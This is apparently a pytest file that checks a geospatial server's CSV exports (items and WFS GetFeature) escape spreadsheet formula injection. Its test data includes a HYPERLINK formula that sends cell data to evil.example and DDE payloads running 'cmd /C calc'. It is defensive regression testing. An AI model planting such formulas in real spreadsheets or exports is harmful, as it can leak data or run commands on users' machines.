"""CSV downloads and formula injection (issue 21): a text cell that begins with = + - @, a
tab or a carriage return is written with a single quote before it (OWASP's advice), so a
spreadsheet shows it as text rather than running it; numbers stay numbers, negative ones
too, and so does text that is just a number. The collection is written here with OGR and
imported with `amis import`; the CSV is read back with Python's csv module and compared
with the source values read with OGR."""
from __future__ import annotations

import csv
import io

import pytest
from osgeo import ogr, osr

from hostile_support import start_site, stop_site
from support import amis_import, read_features

# note -> what a spreadsheet must be given
NOTES = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "plain text, with a comma": "plain text, with a comma",
    "a = b": "a = b",
    "-12.5": "-12.5",
    "+7": "+7",
    "-": "'-",
    "'already quoted": "'already quoted",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    work = tmp_path_factory.mktemp("csv-formulas")
    source = work / "notes.gpkg"
    ds = ogr.GetDriverByName("GPKG").CreateDataSource(str(source))
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(4326)
    layer = ds.CreateLayer("notes", srs, ogr.wkbPoint)
    for name, kind in (("seq", ogr.OFTInteger), ("note", ogr.OFTString), ("balance", ogr.OFTReal),
                       ("delta", ogr.OFTInteger)):
        layer.CreateField(ogr.FieldDefn(name, kind))
    for i, note in enumerate(NOTES):
        f = ogr.Feature(layer.GetLayerDefn())
        f["seq"], f["note"], f["balance"], f["delta"] = i, note, -1.5 - i, -3 - i
        f.SetGeometry(ogr.CreateGeometryFromWkt(f"POINT ({100 + i * 0.1} 10)"))
        layer.CreateFeature(f)
    ds = None
    store = work / "store.gpkg"
    amis_import(store, source, "notes")
    s = start_site(work, store, '[server]\nlog_level = "info"\n', name="csv-formulas")
    yield s, source
    stop_site(s)


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check(text: str, source) -> None:
    source_by_seq = {f.properties["seq"]: f.properties for f in read_features(source)}
    rows = csv_rows(text)
    assert len(rows) == len(NOTES)
    for row in rows:
        want = source_by_seq[int(row["seq"])]
        assert row["note"] == NOTES[want["note"]], (want["note"], row["note"])
        assert float(row["balance"]) == want["balance"] and row["balance"].startswith("-"), row
        assert int(row["delta"]) == want["delta"], row


def test_items_as_csv(site):
    s, source = site
    r = s.s.get(f"{s.url}/collections/notes/items", params={"f": "csv", "limit": 100}, timeout=60)
    assert r.status_code == 200, r.text[:300]
    assert r.headers["Content-Type"].startswith("text/csv")
    check(r.content.decode("utf-8"), source)


def test_wfs_get_feature_as_csv(site):
    s, source = site
    r = s.s.get(f"{s.url}/wfs", params={"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature",
                                        "TYPENAMES": "amis:notes", "OUTPUTFORMAT": "csv"}, timeout=60)
    assert r.status_code == 200, r.text[:300]
    check(r.content.decode("utf-8"), source)
